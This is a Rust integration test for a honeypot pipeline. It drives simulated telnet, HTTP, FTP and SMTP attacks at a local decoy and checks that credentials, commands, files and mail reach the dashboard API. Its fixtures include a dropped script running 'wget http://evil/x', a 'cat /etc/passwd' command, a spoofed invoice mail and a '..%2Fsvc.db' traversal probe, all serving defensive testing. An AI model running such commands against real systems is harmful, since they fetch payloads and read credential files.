//! A decky's output through the whole pipeline: a real `svc decky` process is attacked over
//! telnet and HTTP (and FTP and SMTP), its stdout is ingested by `svc ingest-replay`, and the
//! profiler folds the rows; the store then holds the credentials tried, and the attacker's profile
//! holds the commands run; the dashboard routes read them.

use svc_test_support::in_process as store;
use svc_test_support::processes as common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{Proc, eventually, free_port, svc};
use sha2::Digest;
use store::TestDb;
use svc::bus::Bus;
use svc::worker::WorkerContext;
use tokio_util::sync::CancellationToken;

/// Reads from `stream` until the text received ends with `end`; what was read.
fn read_until(stream: &mut TcpStream, end: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = Vec::new();
    let mut buf = [0u8; 1024];
    while !String::from_utf8_lossy(&seen).trim_end_matches('\0').ends_with(end) {
        assert!(Instant::now() < deadline, "no `{end}` in {:?}", String::from_utf8_lossy(&seen));
        let n = stream.read(&mut buf).unwrap();
        assert!(n > 0, "closed before `{end}`: {:?}", String::from_utf8_lossy(&seen));
        seen.extend_from_slice(&buf[..n]);
    }
    String::from_utf8_lossy(&seen).into_owned()
}

/// The lines the decky has written so far.
fn written(log: &std::path::Path) -> String {
    std::fs::read_to_string(log).unwrap_or_default()
}

fn wait_for(log: &std::path::Path, what: &str, count: usize) {
    let deadline = Instant::now() + Duration::from_secs(15);
    while written(log).matches(what).count() < count {
        assert!(Instant::now() < deadline, "no {count} × `{what}` in:\n{}", written(log));
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[tokio::test]
async fn what_a_decky_sees_becomes_credentials_and_commands() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("decky.log");
    let ini = dir.path().join("fleet.ini");
    std::fs::write(&ini, "[web-01.telnet]\nusers = root:toor\n").unwrap();
    let (telnet, http) = (free_port(), free_port());
    let mut decky = Command::new(env!("CARGO_BIN_EXE_svc"))
        .args(["decky", "--name", "web-01", "--bind", "127.0.0.1", "--ini", ini.to_str().unwrap()])
        .args(["--services", &format!("telnet:{telnet},http:{http}")])
        .env_clear()
        .stdout(Stdio::from(std::fs::File::create(&log).unwrap()))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&log, " startup ", 2);

    // Telnet: a wrong password, the right one, two commands, logout.
    let mut session = TcpStream::connect(("127.0.0.1", telnet)).unwrap();
    session.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    for (user, password) in [("root", "123456789"), ("root", "toor")] {
        read_until(&mut session, "login: ");
        session.write_all(format!("{user}\r\n").as_bytes()).unwrap();
        read_until(&mut session, "Password: ");
        session.write_all(format!("{password}\r\n").as_bytes()).unwrap();
    }
    read_until(&mut session, "# ");
    session.write_all(b"uname -a\r\n").unwrap();
    assert!(read_until(&mut session, "# ").contains("Linux web-01"));
    session.write_all(b"cat /etc/passwd\r\n").unwrap();
    assert!(read_until(&mut session, "# ").contains("root:x:0:0"));
    session.write_all(b"exit\r\n").unwrap();
    drop(session);

    // HTTP: the login form posted.
    let mut web = TcpStream::connect(("127.0.0.1", http)).unwrap();
    let body = "username=admin&password=s3cr3t%21";
    let request = format!(
        "POST /login HTTP/1.1\r\nHost: web-01\r\nUser-Agent: pipeline-test\r\nContent-Type: \
         application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    web.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    web.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    wait_for(&log, " disconnect ", 2);
    let stop = rustix::process::Pid::from_raw(decky.id() as i32).unwrap();
    rustix::process::kill_process(stop, rustix::process::Signal::TERM).unwrap();
    assert!(decky.wait().unwrap().success());

    // The decky's stdout, ingested as the collector would hand it over.
    let backend = TestDb::sqlite();
    let mut replay = svc(dir.path(), &["ingest-replay", log.to_str().unwrap()]);
    replay.envs(backend.vars());
    let mut replay = Proc::spawn(replay);
    assert!(replay.wait().success(), "{}", replay.output());
    assert!(replay.output().contains("skipped 0 malformed"), "{}", replay.output());
    let db = backend.open().await;

    let credentials = db.credentials(&Default::default(), 10, 0).await.unwrap().rows;
    let tried: Vec<(Option<&str>, &str, &str, Option<&str>)> = credentials
        .iter()
        .map(|c| (c.principal.as_deref(), c.secret_printable.as_str(), c.service.as_str(), c.outcome.as_deref()))
        .collect();
    for expected in [
        (Some("root"), "123456789", "telnet", Some("failure")),
        (Some("root"), "toor", "telnet", Some("success")),
        (Some("admin"), "s3cr3t!", "http", Some("failure")),
    ] {
        assert!(tried.contains(&expected), "{expected:?} not among {tried:?}");
    }
    assert!(credentials.iter().all(|c| c.attacker_ip == "127.0.0.1" && c.decky == "web-01"));

    // The profiler folds the rows: one attacker, with the commands it ran.
    let config = backend.api_config(&[("SVC_PROFILER_POLL_MS", "20")]);
    let cancel = CancellationToken::new();
    let ctx = WorkerContext::new(Arc::new(config), db.clone(), Bus::absent(), cancel.clone());
    let profiler = tokio::spawn((svc_workers::profiler::body().run)(ctx));
    let last = db.last_log_id().await.unwrap();
    eventually("the profiler catches up", || async { db.profiler_cursor().await.unwrap() >= last }).await;
    cancel.cancel();
    profiler.await.unwrap().unwrap();
    let profile = db.attackers_by_ip(&["127.0.0.1".to_string()]).await.unwrap().pop().expect("a profile");
    let commands = db.attacker_commands(profile.uuid, None, 10, 0).await.unwrap();
    let ran: Vec<&str> = commands.rows.iter().map(|c| c.command.as_str()).collect();
    // Every line typed is logged before it runs, the logout too.
    assert_eq!(ran, ["exit", "cat /etc/passwd", "uname -a"], "newest first");
    assert_eq!(profile.deckies, ["web-01"]);
    assert!(profile.services.contains(&"telnet".to_string()) && profile.services.contains(&"http".to_string()));
    assert_eq!(profile.credential_count, 3);
}

/// Sends `line` and reads the reply up to its last line (the one whose code is followed by a space).
fn exchange(stream: &mut TcpStream, line: &str, code: &str) -> String {
    stream.write_all(format!("{line}\r\n").as_bytes()).unwrap();
    read_until(stream, "\r\n").lines().last().map(str::to_string).filter(|l| l.starts_with(code)).unwrap_or_else(|| {
        panic!("no {code} after {line}");
    })
}

/// A passive FTP upload of `bytes` as `name`, anonymously.
fn ftp_upload(port: u16, name: &str, bytes: &[u8]) {
    let mut ftp = TcpStream::connect(("127.0.0.1", port)).unwrap();
    ftp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    read_until(&mut ftp, "\r\n");
    exchange(&mut ftp, "USER anonymous", "331");
    exchange(&mut ftp, "PASS guest@", "230");
    let pasv = exchange(&mut ftp, "PASV", "227");
    let numbers: Vec<u16> =
        pasv[pasv.find('(').unwrap() + 1..pasv.find(')').unwrap()].split(',').map(|n| n.parse().unwrap()).collect();
    let mut data = TcpStream::connect(("127.0.0.1", numbers[4] * 256 + numbers[5])).unwrap();
    exchange(&mut ftp, &format!("STOR {name}"), "150");
    data.write_all(bytes).unwrap();
    drop(data);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut replies = String::new();
    while !replies.contains("226 ") {
        assert!(Instant::now() < deadline, "no 226 after the upload: {replies}");
        replies.push_str(&read_until(&mut ftp, "\r\n"));
    }
    exchange(&mut ftp, "QUIT", "221");
}

/// A message from `boss@evil.net` to two victims, subject `invoice`.
fn smtp_send(port: u16) {
    let mut smtp = TcpStream::connect(("127.0.0.1", port)).unwrap();
    smtp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    read_until(&mut smtp, "\r\n");
    smtp.write_all(b"EHLO mailer\r\n").unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = String::new();
    while !seen.lines().any(|l| l.starts_with("250 ")) {
        assert!(Instant::now() < deadline, "no EHLO reply: {seen}");
        seen.push_str(&read_until(&mut smtp, "\r\n"));
    }
    exchange(&mut smtp, "MAIL FROM:<boss@evil.net>", "250");
    exchange(&mut smtp, "RCPT TO:<cfo@acme.com>", "250");
    exchange(&mut smtp, "RCPT TO:<it@Bank.org>", "250");
    exchange(&mut smtp, "DATA", "354");
    exchange(&mut smtp, "Subject: invoice\r\n\r\nplease pay\r\n.", "250");
    exchange(&mut smtp, "QUIT", "221");
}

/// Reads the event stream into `seen` until it holds `marker`.
async fn read_stream_until(stream: &mut reqwest::Response, seen: &mut String, marker: &str) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    while !seen.contains(marker) {
        let chunk = tokio::time::timeout_at(deadline, stream.chunk()).await;
        let chunk = chunk.unwrap_or_else(|_| panic!("no `{marker}` in {seen}")).unwrap().expect("stream open");
        seen.push_str(&String::from_utf8_lossy(&chunk));
    }
}

/// Runs the profiler until it has folded every stored row.
async fn profile_all(config: &svc::config::Config, db: &svc::db::Db, bus: Bus) {
    let cancel = CancellationToken::new();
    let ctx = WorkerContext::new(Arc::new(config.clone()), db.clone(), bus, cancel.clone());
    let profiler = tokio::spawn((svc_workers::profiler::body().run)(ctx));
    let last = db.last_log_id().await.unwrap();
    eventually("the profiler catches up", || async { db.profiler_cursor().await.unwrap() >= last }).await;
    cancel.cancel();
    profiler.await.unwrap().unwrap();
}

/// What a decky records reaches every dashboard route DECNET's attacker and credential pages call,
/// through the real pipeline: a decky attacked over telnet, HTTP, FTP and SMTP, its output ingested
/// by `svc ingest-replay`, folded by the profiler (publishing on a real bus), read through the API.
#[tokio::test]
async fn what_a_decky_sees_reaches_the_dashboard_routes() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("decky.log");
    let ini = dir.path().join("fleet.ini");
    std::fs::write(&ini, "[web-01.telnet]\nusers = root:toor\n").unwrap();
    let (telnet, http, ftp, smtp) = (free_port(), free_port(), free_port(), free_port());
    let artifacts = dir.path().join("artifacts");
    let mut decky = Command::new(env!("CARGO_BIN_EXE_svc"))
        .args(["decky", "--name", "web-01", "--bind", "127.0.0.1", "--ini", ini.to_str().unwrap()])
        .args(["--services", &format!("telnet:{telnet},http:{http},ftp:{ftp},smtp:{smtp}")])
        .args(["--artifacts-dir", artifacts.join("web-01").to_str().unwrap()])
        .env_clear()
        .stdout(Stdio::from(std::fs::File::create(&log).unwrap()))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&log, " startup ", 4);

    // The same password over telnet and the web form: credential reuse on two services.
    let mut session = TcpStream::connect(("127.0.0.1", telnet)).unwrap();
    session.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    for (user, password) in [("root", "123456789"), ("root", "toor")] {
        read_until(&mut session, "login: ");
        session.write_all(format!("{user}\r\n").as_bytes()).unwrap();
        read_until(&mut session, "Password: ");
        session.write_all(format!("{password}\r\n").as_bytes()).unwrap();
    }
    read_until(&mut session, "# ");
    session.write_all(b"uname -a\r\n").unwrap();
    read_until(&mut session, "# ");
    session.write_all(b"exit\r\n").unwrap();
    drop(session);
    let mut web = TcpStream::connect(("127.0.0.1", http)).unwrap();
    let body = "username=root&password=toor";
    let request = format!(
        "POST /login HTTP/1.1\r\nHost: web-01\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    web.write_all(request.as_bytes()).unwrap();
    web.read_to_string(&mut String::new()).unwrap();
    let dropped = b"#!/bin/sh\nwget http://evil/x\n";
    ftp_upload(ftp, "drop.sh", dropped);
    smtp_send(smtp);
    wait_for(&log, " disconnect ", 4);
    let stop = rustix::process::Pid::from_raw(decky.id() as i32).unwrap();
    rustix::process::kill_process(stop, rustix::process::Signal::TERM).unwrap();
    assert!(decky.wait().unwrap().success());

    // The SMTP session's last lines arrive while the attacker's event stream is open.
    let lines: Vec<String> = written(&log).lines().map(|l| format!("{l}\n")).collect();
    let held = 1 + lines.iter().rposition(|l| l.contains(" smtp - message_accepted ")).expect("a stored message");
    assert!(held < lines.len(), "the session's disconnect follows");
    let nats = common::Nats::start();
    for backend in TestDb::all() {
        let replayed = dir.path().join(format!("replay-{}.log", backend.name));
        std::fs::write(&replayed, lines[..held].concat()).unwrap();
        let replay = || {
            let mut replay = svc(dir.path(), &["ingest-replay", replayed.to_str().unwrap()]);
            replay.envs(backend.vars());
            let mut replay = Proc::spawn(replay);
            assert!(replay.wait().success(), "{}", replay.output());
        };
        replay();
        let config = backend.api_config(&[
            ("SVC_PROFILER_POLL_MS", "20"),
            ("SVC_NATS_URL", &nats.url()),
            ("SVC_ARTIFACTS_DIR", artifacts.to_str().unwrap()),
        ]);
        let db = backend.open().await;
        profile_all(&config, &db, Bus::absent()).await;
        let api = store::TestApi::start(config.clone()).await;
        let viewer = store::user_token(&api.state, "watcher", svc::db::Role::Viewer).await;
        let admin = store::user_token(&api.state, "boss", svc::db::Role::Admin).await;

        // The credential bounty carries DECNET's names beside ours.
        let bounties = api.ok("/bounty", &viewer, &[("bounty_type", "credential")]).await;
        let payloads: Vec<&serde_json::Value> =
            bounties["data"].as_array().unwrap().iter().map(|b| &b["payload"]).collect();
        assert!(
            payloads.iter().any(|p| p["username"] == "root" && p["password"] == "toor" && p["principal"] == "root"),
            "{payloads:?}"
        );

        // The attacker row carries its commands (the last is the newest) and the detail its timing.
        let rows = api.ok("/attackers", &viewer, &[]).await;
        let row = rows["data"].as_array().unwrap().iter().find(|r| r["ip"] == "127.0.0.1").expect("the attacker");
        let uuid = row["uuid"].as_str().unwrap().to_string();
        let commands: Vec<&str> =
            row["commands"].as_array().unwrap().iter().map(|c| c["command"].as_str().unwrap()).collect();
        // The shell's and the FTP session's, oldest first.
        let ran = ["uname -a", "exit", "PASV", "STOR drop.sh", "QUIT"];
        assert_eq!((commands.as_slice(), &row["command_count"]), (&ran[..], &serde_json::json!(5)), "{}", backend.name);
        let detail = api.ok(&format!("/attackers/{uuid}"), &viewer, &[]).await;
        let timing = &detail["behavior"]["timing_stats"];
        for field in ["duration_s", "mean_iat_s", "median_iat_s", "min_iat_s", "max_iat_s"] {
            assert!(timing[field].is_number(), "{field} in {timing}");
        }
        assert!(timing["min_iat_s"].as_f64() <= timing["median_iat_s"].as_f64());
        assert!(timing["median_iat_s"].as_f64() <= timing["max_iat_s"].as_f64());

        // Credentials, and the one secret tried on two services.
        let credentials = api.ok("/credentials", &viewer, &[("service", "telnet")]).await;
        assert_eq!(credentials["total"], 2, "{credentials}");
        let first = &credentials["data"][0];
        assert_eq!(
            (&first["decky_name"], &first["attacker_uuid"]),
            (&serde_json::json!("web-01"), &serde_json::json!(uuid))
        );
        let searched = api.ok("/credentials", &viewer, &[("search", "toor")]).await;
        assert_eq!(searched["total"], 2, "telnet and http: {searched}");
        let reuse = api.ok("/credential-reuse", &viewer, &[]).await;
        assert_eq!(reuse["total"], 1, "{reuse}");
        let finding = &reuse["data"][0];
        assert_eq!(
            (&finding["principal"], &finding["secret_printable"], &finding["target_count"], &finding["services"]),
            (
                &serde_json::json!("root"),
                &serde_json::json!("toor"),
                &serde_json::json!(2),
                &serde_json::json!(["http", "telnet"])
            )
        );
        assert_eq!(
            (&finding["attacker_ips"], &finding["attacker_uuids"]),
            (&serde_json::json!(["127.0.0.1"]), &serde_json::json!([uuid]))
        );
        assert_eq!(api.ok("/credential-reuse", &viewer, &[("min_target_count", "3")]).await["total"], 0);
        assert_eq!(api.get("/credential-reuse", Some(&viewer), &[("min_target_count", "1")]).await.status, 422);

        // The dropped file, the mail (admins only) and its victims' domains.
        let artifacts = api.ok(&format!("/attackers/{uuid}/artifacts"), &viewer, &[]).await;
        assert_eq!(
            (&artifacts["total"], &artifacts["data"][0]["event_type"]),
            (&serde_json::json!(1), &serde_json::json!("file_captured"))
        );
        let fields: serde_json::Value = serde_json::from_str(artifacts["data"][0]["fields"].as_str().unwrap()).unwrap();
        let sha256: String = sha2::Sha256::digest(dropped).iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!((&fields["sha256"], &fields["stored"]), (&serde_json::json!(sha256), &serde_json::json!("true")));

        // Their bytes, as the decoy kept them, for admins (DECNET's download buttons).
        let download = |stored_as: String, service: &'static str, token: String| {
            let url = api.url(&format!("/artifacts/web-01/{stored_as}"));
            let request = api.client.get(url).query(&[("service", service)]).bearer_auth(token);
            async move { request.send().await.unwrap() }
        };
        let stored_as = fields["stored_as"].as_str().unwrap().to_string();
        let file = download(stored_as.clone(), "ftp", admin.clone()).await;
        assert_eq!(file.status(), 200);
        assert_eq!(file.headers()["content-type"], "application/octet-stream");
        assert_eq!(file.headers()["content-disposition"], format!("attachment; filename=\"{stored_as}\""));
        assert_eq!(file.bytes().await.unwrap(), &dropped[..], "byte for byte");
        assert_eq!(download(stored_as.clone(), "ftp", viewer.clone()).await.status(), 403);
        for (name, service, status) in [
            (format!("x{stored_as}"), "ftp", 404),
            ("..%2Fsvc.db".to_string(), "ftp", 400),
            (".hidden".to_string(), "ftp", 400),
            (stored_as.clone(), "http", 400),
            (stored_as.clone(), "SSH", 422),
        ] {
            assert_eq!(download(name.clone(), service, admin.clone()).await.status(), status, "{name} {service}");
        }
        assert_eq!(api.get(&format!("/attackers/{uuid}/mail"), Some(&viewer), &[]).await.status, 403);
        let mail = api.ok(&format!("/attackers/{uuid}/mail"), &admin, &[]).await;
        assert_eq!(mail["total"], 1, "{mail}");
        let mail_fields: serde_json::Value = serde_json::from_str(mail["data"][0]["fields"].as_str().unwrap()).unwrap();
        assert_eq!(mail_fields["subject"], "invoice");
        let message = download(mail_fields["stored_as"].as_str().unwrap().to_string(), "smtp", admin.clone()).await;
        assert_eq!(message.bytes().await.unwrap(), &b"Subject: invoice\r\n\r\nplease pay\r\n"[..]);
        let targets = api.ok(&format!("/attackers/{uuid}/smtp-targets"), &viewer, &[]).await;
        let mut domains: Vec<(&str, u64)> = targets["data"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| (t["domain"].as_str().unwrap(), t["count"].as_u64().unwrap()))
            .collect();
        domains.sort();
        assert_eq!(domains, [("acme.com", 1), ("bank.org", 1)]);

        // The telnet shell session, recorded: listed without its events, replayed by admins only.
        let sessions = api.ok(&format!("/attackers/{uuid}/transcripts"), &viewer, &[]).await;
        assert_eq!(sessions["total"], 1, "{sessions}");
        let row: serde_json::Value = serde_json::from_str(sessions["data"][0]["fields"].as_str().unwrap()).unwrap();
        assert_eq!(
            (&row["service"], &row["cast"]),
            (&serde_json::json!("telnet"), &serde_json::json!("[see /transcripts]"))
        );
        assert!(!sessions["data"][0]["raw_line"].as_str().unwrap().contains("uname"), "{sessions}");
        let transcript = format!("/transcripts/web-01/{}", row["sid"].as_str().unwrap());
        assert_eq!(api.get(&transcript, Some(&viewer), &[]).await.status, 403);
        let page = api.ok(&transcript, &admin, &[]).await;
        let on = |channel: &str| -> String {
            let events = page["events"].as_array().unwrap().iter();
            events.filter(|e| e[1] == channel).map(|e| e[2].as_str().unwrap()).collect()
        };
        assert_eq!(on("i"), "uname -a\rexit\r", "what was typed, in order");
        let shown = on("o");
        assert!(shown.contains("# uname -a\r\nLinux ") && shown.ends_with("# exit\r\nlogout\r\n"), "{shown:?}");
        assert_eq!(
            (&page["header"]["version"], &page["truncated"]),
            (&serde_json::json!(2), &serde_json::json!(false))
        );
        let total = page["total"].as_u64().unwrap();
        let second = api.ok(&transcript, &admin, &[("offset", "1"), ("limit", "1")]).await;
        assert_eq!((&second["events"][0], &second["has_more"]), (&page["events"][1], &serde_json::json!(total > 2)));
        let cast = api.client.get(api.url(&format!("{transcript}/cast"))).bearer_auth(&admin).send().await.unwrap();
        assert_eq!(cast.headers()["content-type"], "application/x-asciicast");
        let cast = cast.text().await.unwrap();
        let cast: Vec<serde_json::Value> = cast.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(
            (cast.len() as u64, &cast[0]["version"]),
            (total + 1, &serde_json::json!(2)),
            "a header, then each event"
        );
        assert_eq!(cast[1..], page["events"].as_array().unwrap()[..]);
        for (path, status) in [
            (format!("{transcript}x"), 400),
            ("/transcripts/Web_01/00000000-0000-0000-0000-000000000000".to_string(), 400),
            ("/transcripts/web-01/00000000-0000-0000-0000-000000000000".to_string(), 404),
        ] {
            assert_eq!(api.get(&path, Some(&admin), &[]).await.status, status, "{path}");
        }
        let logged = api.ok("/logs", &viewer, &[("search", "event:session_recorded")]).await;
        let logged: serde_json::Value = serde_json::from_str(logged["data"][0]["fields"].as_str().unwrap()).unwrap();
        assert_eq!(logged["cast"], "[redacted]", "what was typed is the admins' to read");

        let missing = uuid::Uuid::new_v4();
        for route in ["artifacts", "smtp-targets", "events", "transcripts"] {
            assert_eq!(
                api.get(&format!("/attackers/{missing}/{route}"), Some(&viewer), &[]).await.status,
                404,
                "{route}"
            );
        }

        // The attacker's live events: the snapshot, then the profiler's score as new rows arrive.
        let events = format!("/attackers/{uuid}/events");
        assert_eq!(api.get(&events, None, &[]).await.status, 401);
        let response = api.client.get(api.url(&events)).bearer_auth(&viewer).send().await.unwrap();
        assert_eq!(response.status(), 200);
        let mut stream = response;
        let mut seen = String::new();
        read_stream_until(&mut stream, &mut seen, "event: snapshot").await;
        read_stream_until(&mut stream, &mut seen, "\n\n").await;
        assert!(seen.contains(&format!(r#""attacker_uuid":"{uuid}""#)), "{seen}");
        std::fs::write(&replayed, lines.concat()).unwrap();
        replay();
        profile_all(&config, &db, Bus::connect(Some(&nats.url()), "profiler").await).await;
        read_stream_until(&mut stream, &mut seen, "event: attacker.scored").await;
        read_stream_until(&mut stream, &mut seen, r#""event_count""#).await;
        let ticket = api.client.post(api.url("/auth/sse-ticket")).bearer_auth(&viewer).send().await.unwrap();
        let ticket: serde_json::Value = ticket.json().await.unwrap();
        let by_ticket = api
            .client
            .get(api.url(&events))
            .query(&[("ticket", ticket["ticket"].as_str().unwrap())])
            .send()
            .await
            .unwrap();
        assert_eq!(by_ticket.status(), 200);
        drop((stream, by_ticket));
        api.stop().await;
    }
}
